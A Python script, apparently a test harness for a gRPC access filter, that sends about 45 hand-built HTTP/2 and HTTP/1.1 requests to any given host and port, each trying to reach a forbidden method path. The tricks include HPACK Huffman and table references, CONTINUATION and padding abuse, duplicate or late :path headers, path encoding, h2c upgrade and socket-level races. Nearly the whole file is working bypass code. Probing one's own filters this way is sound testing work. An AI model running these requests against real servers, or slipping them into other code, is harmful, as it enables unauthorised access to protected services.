"""Ways to get a forbidden request past whoever reads it: `attempts.py NAME HOST PORT`."""

from __future__ import annotations

import contextlib
import os
import select
import socket
import struct
import sys
import tempfile
import time
from collections.abc import Callable

from frames import END_HEADERS, END_STREAM, HEADERS, PADDED, PREFACE, SETTINGS, frame, literal
from hpack.huffman import HuffmanEncoder
from hpack.huffman_constants import REQUEST_CODES, REQUEST_CODES_LENGTH

FORBIDDEN = b"/secret.Svc/Get"
ALLOWED = b"/open.Svc/Get"
PUBLIC = b"/public.Svc/Get"  # as long as the forbidden one
TURNS = b"/turns.Svc/Get"  # for callers with `x-ok: yes` only
CONTINUATION, DATA, PRIORITY = 9, 0, 0x20
OPENING = PREFACE + frame(SETTINGS, 0, 0, b"")
BEGIN, END = b"\x83\x86\x01\x01a", literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers")
HUFFMAN = HuffmanEncoder(REQUEST_CODES, REQUEST_CODES_LENGTH)

ATTEMPTS: dict[str, Callable[[socket.socket], None]] = {}
CONNECTS: dict[str, Callable[[tuple[str, int]], socket.socket]] = {}


def attempt(function: Callable[[socket.socket], None]) -> Callable[[socket.socket], None]:
    ATTEMPTS[function.__name__.replace("_", " ")] = function
    return function


def block(path: bytes = FORBIDDEN) -> bytes:
    return BEGIN + literal(b":path", path) + END


def headers(content: bytes, stream: int = 1, flags: int = END_HEADERS | END_STREAM) -> bytes:
    return frame(HEADERS, flags, stream, content)


def fill(fields: bytes, size: int) -> bytes:
    """`fields`, and one more that makes them `size` bytes."""
    return fields + literal(b"x", b"a" * (size - len(fields) - len(literal(b"x", b""))))


def put(connection: socket.socket, data: bytes) -> None:
    while data:
        select.select([], [connection], [], 10)
        data = data[connection.send(data) :]


@attempt
def plain(connection: socket.socket) -> None:
    put(connection, OPENING + headers(block()))


@attempt
def one_byte_a_write(connection: socket.socket) -> None:
    for byte in OPENING + headers(block()):
        put(connection, bytes((byte,)))
        time.sleep(0.0002)


@attempt
def cut_within_the_path(connection: socket.socket) -> None:
    request = OPENING + headers(block())
    at = request.index(b"secret") + 3
    put(connection, request[:at])
    time.sleep(0.05)
    put(connection, request[at:])


@attempt
def continuation(connection: socket.socket) -> None:
    content = block()
    parts = [content[:3], content[3:20], content[20:]]
    put(
        connection,
        OPENING
        + headers(parts[0], flags=END_STREAM)
        + frame(CONTINUATION, 0, 1, parts[1])
        + frame(CONTINUATION, END_HEADERS, 1, parts[2]),
    )


@attempt
def continuation_in_writes(connection: socket.socket) -> None:
    content = block()
    put(connection, OPENING + headers(content[:9], flags=END_STREAM))
    time.sleep(0.05)
    put(connection, frame(CONTINUATION, END_HEADERS, 1, content[9:]))


@attempt
def padded_with_priority(connection: socket.socket) -> None:
    payload = b"\x07" + struct.pack("!IB", 0, 15) + block() + bytes(7)
    put(connection, OPENING + headers(payload, flags=END_HEADERS | END_STREAM | PADDED | PRIORITY))


@attempt
def padding_that_is_read(connection: socket.socket) -> None:
    """Another path for servers that pay no heed to PADDED, as gRPC's C core.

    Others read 83 bytes of padding after a block that begins with an inserted :path. They read a field's name,
    `accept`, its value of 68 bytes, and then the padding.
    """
    value = fill(bytes((len(ALLOWED),)) + ALLOWED + BEGIN + END, 0x44)
    padding = fill(BEGIN + literal(b":path", FORBIDDEN) + END, 0x53)
    content = b"\x53\x44" + value + padding
    put(connection, OPENING + headers(content, flags=END_HEADERS | END_STREAM | PADDED))


@attempt
def flags_without_a_meaning(connection: socket.socket) -> None:
    """Nobody knows what servers make of them, so the path does not matter."""
    put(connection, OPENING + headers(block(ALLOWED), flags=END_HEADERS | END_STREAM | 0x40))


@attempt
def continuation_with_padding(connection: socket.socket) -> None:
    """There is no such thing, except for servers of early drafts. For others the path may be called."""
    content = block(ALLOWED)
    continued = frame(CONTINUATION, END_HEADERS | PADDED, 1, content[9:])
    put(connection, OPENING + headers(content[:9], flags=END_STREAM) + continued)


@attempt
def huffman(connection: socket.socket) -> None:
    code = HUFFMAN.encode(FORBIDDEN)
    put(connection, OPENING + headers(BEGIN + b"\x04" + bytes((0x80 | len(code),)) + code + END))


@attempt
def never_indexed(connection: socket.socket) -> None:
    put(connection, OPENING + headers(BEGIN + b"\x14" + bytes((len(FORBIDDEN),)) + FORBIDDEN + END))


@attempt
def by_reference(connection: socket.socket) -> None:
    """Inserted by a call that has been refused, then referred to."""
    insert = b"\x44" + bytes((len(FORBIDDEN),)) + FORBIDDEN
    put(connection, OPENING + headers(BEGIN + insert + END) + headers(BEGIN + b"\xbe" + END, stream=3))


@attempt
def inserted_by_a_trailer(connection: socket.socket) -> None:
    """A call that may be made inserts it as the value of another header, whose value nobody can refer to as a path."""
    insert = b"\x40\x05x-any" + bytes((len(FORBIDDEN),)) + FORBIDDEN
    put(connection, OPENING + headers(block(ALLOWED), flags=END_HEADERS) + headers(insert))


@attempt
def path_in_trailers(connection: socket.socket) -> None:
    put(connection, OPENING + headers(block(ALLOWED), flags=END_HEADERS) + headers(literal(b":path", FORBIDDEN)))


@attempt
def stream_that_has_ended(connection: socket.socket) -> None:
    put(
        connection,
        OPENING + headers(block(ALLOWED), stream=3) + headers(block(), stream=1) + headers(block(), stream=3),
    )


@attempt
def even_stream(connection: socket.socket) -> None:
    put(connection, OPENING + headers(block(), stream=2))


@attempt
def two_paths_while_draining(connection: socket.socket) -> None:
    """The second request may be made, but its path was changed: who cannot write it anew sends the client away."""
    insert = b"\x44" + bytes((len(TURNS),)) + TURNS
    put(connection, OPENING + headers(BEGIN + insert + END))
    put(connection, headers(BEGIN + b"\xbe" + END + literal(b"x-ok", b"yes"), stream=3))
    put(connection, headers(BEGIN + b"\xbe" + END + literal(b":path", FORBIDDEN), stream=5))


@attempt
def two_paths(connection: socket.socket) -> None:
    put(connection, OPENING + headers(BEGIN + literal(b":path", ALLOWED) + literal(b":path", FORBIDDEN) + END))


@attempt
def two_paths_the_other_way(connection: socket.socket) -> None:
    put(connection, OPENING + headers(BEGIN + literal(b":path", FORBIDDEN) + literal(b":path", ALLOWED) + END))


@attempt
def late_pseudo_header(connection: socket.socket) -> None:
    put(connection, OPENING + headers(BEGIN + END + literal(b":path", FORBIDDEN)))


@attempt
def late_host(connection: socket.socket) -> None:
    """Some servers leave it out; so the path does not matter."""
    put(connection, OPENING + headers(BEGIN[:2] + literal(b":path", ALLOWED) + END + literal(b":authority", b"a")))


@attempt
def not_grpc(connection: socket.socket) -> None:
    put(connection, OPENING + headers(b"\x82\x86" + literal(b":path", FORBIDDEN)))


@attempt
def with_a_query(connection: socket.socket) -> None:
    put(connection, OPENING + headers(b"\x82\x86" + literal(b":path", FORBIDDEN + b"?a=b")))


@attempt
def escaped(connection: socket.socket) -> None:
    put(connection, OPENING + headers(block(b"/secret.Svc%2fGet")))


@attempt
def dot_segments(connection: socket.socket) -> None:
    put(connection, OPENING + headers(block(b"/open.Svc/../secret.Svc/Get")))


@attempt
def without_a_leading_slash(connection: socket.socket) -> None:
    put(connection, OPENING + headers(block(FORBIDDEN[1:])))


@attempt
def with_a_parameter(connection: socket.socket) -> None:
    put(connection, OPENING + headers(block(FORBIDDEN + b";a=b")))


@attempt
def stream_that_depends_on_itself(connection: socket.socket) -> None:
    """Servers pass the block over, or read what follows the five bytes as frames; so the path does not matter."""
    content = struct.pack("!IB", 1, 15) + block(ALLOWED)
    put(connection, OPENING + headers(content, flags=END_HEADERS | END_STREAM | PRIORITY))


@attempt
def priority_of_itself(connection: socket.socket) -> None:
    put(connection, OPENING + frame(2, 0, 1, struct.pack("!IB", 1, 15)) + headers(block(ALLOWED)))


@attempt
def empty_segment(connection: socket.socket) -> None:
    put(connection, OPENING + headers(block(b"//secret.Svc/Get")))


@attempt
def size_update_and_eviction(connection: socket.socket) -> None:
    insert = b"\x44" + bytes((len(FORBIDDEN),)) + FORBIDDEN
    again = b"\x20\x3f\xe1\x1f"  # to nothing, and back to 4096
    put(connection, OPENING + headers(BEGIN + insert + END) + headers(again + BEGIN + insert + END, stream=3))
    put(connection, headers(BEGIN + b"\xbe" + END, stream=5))


@attempt
def http_1(connection: socket.socket) -> None:
    put(connection, b"GET " + FORBIDDEN + b" HTTP/1.1\r\nhost: a\r\n\r\n")


@attempt
def http_1_one_byte_a_write(connection: socket.socket) -> None:
    for byte in b"POST " + FORBIDDEN + b" HTTP/1.1\r\nhost: a\r\ncontent-length: 0\r\n\r\n":
        put(connection, bytes((byte,)))
        time.sleep(0.0002)


@attempt
def upgrade(connection: socket.socket) -> None:
    lines = [b"GET " + FORBIDDEN + b" HTTP/1.1", b"host: a", b"connection: Upgrade, HTTP2-Settings", b"upgrade: h2c"]
    put(connection, b"\r\n".join([*lines, b"http2-settings: AAMAAABkAAQAAP__", b"", b""]))


@attempt
def windows_of_a_byte(connection: socket.socket) -> None:
    """The server may answer with a byte at a time, and hardly has room to be told so."""
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
    windows = struct.pack("!HI", 4, 1)  # SETTINGS_INITIAL_WINDOW_SIZE
    put(connection, PREFACE + frame(SETTINGS, 0, 0, windows) + headers(block()))


@attempt
def sendfile(connection: socket.socket) -> None:
    with tempfile.TemporaryFile() as file:
        file.write(OPENING + headers(block()))
        file.flush()
        select.select([], [connection], [], 10)
        os.sendfile(connection.fileno(), file.fileno(), 0, 1 << 20)


@attempt
def page_that_changes(connection: socket.socket) -> None:
    """The page is sent, not its bytes: who reads it first may see others than who reads it later."""
    with tempfile.TemporaryFile() as file:
        put(connection, OPENING)
        for stream in range(1, 61, 2):
            request = headers(block(PUBLIC), stream)
            file.seek(0)
            file.write(request)
            file.flush()
            os.sendfile(connection.fileno(), file.fileno(), 0, len(request))
            os.pwrite(file.fileno(), FORBIDDEN, request.index(PUBLIC))
            time.sleep(0.005)


@attempt
def turned_to_blocking(connection: socket.socket) -> None:
    put(connection, OPENING + headers(block(ALLOWED)))
    time.sleep(0.2)
    connection.setblocking(True)
    connection.send(headers(block(), stream=3))


@attempt
def splice(connection: socket.socket) -> None:
    reader, writer = os.pipe()
    os.write(writer, OPENING + headers(block()))
    with contextlib.suppress(OSError):
        os.splice(reader, connection.fileno(), 1 << 20)


@attempt
def zerocopy(connection: socket.socket) -> None:
    connection.setsockopt(socket.SOL_SOCKET, 60, 1)  # SO_ZEROCOPY
    with contextlib.suppress(OSError):
        connection.send(OPENING + headers(block()), 0x4000000)  # MSG_ZEROCOPY


@attempt
def reset_at_once(connection: socket.socket) -> None:
    """All of it is there, and the connection gone, before the server has accepted it."""
    put(connection, OPENING + headers(block()))
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    connection.close()


@attempt
def half_closed_at_once(connection: socket.socket) -> None:
    put(connection, OPENING + headers(block()))
    connection.shutdown(socket.SHUT_WR)


@attempt
def urgent(connection: socket.socket) -> None:
    request = OPENING + headers(block())
    put(connection, request[:-1])
    connection.send(request[-1:], socket.MSG_OOB)


@attempt
def after_many_allowed(connection: socket.socket) -> None:
    put(connection, OPENING + b"".join(headers(block(ALLOWED), stream=2 * n + 1) for n in range(300)))
    put(connection, headers(block(), stream=2001))


def connect(address: tuple[str, int]) -> socket.socket:
    connection = socket.socket()
    connection.setblocking(False)
    connection.connect_ex(address)
    select.select([], [connection], [], 10)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def main(name: str, host: str, port: str) -> None:
    with CONNECTS.get(name, connect)((host, int(port))) as connection:
        with contextlib.suppress(OSError):
            ATTEMPTS[name](connection)
        with contextlib.suppress(OSError):
            connection.settimeout(0.5)
            while connection.recv(65536):
                pass
    print("done")


import detours  # noqa: E402, F401

if __name__ == "__main__":
    main(*sys.argv[1:])
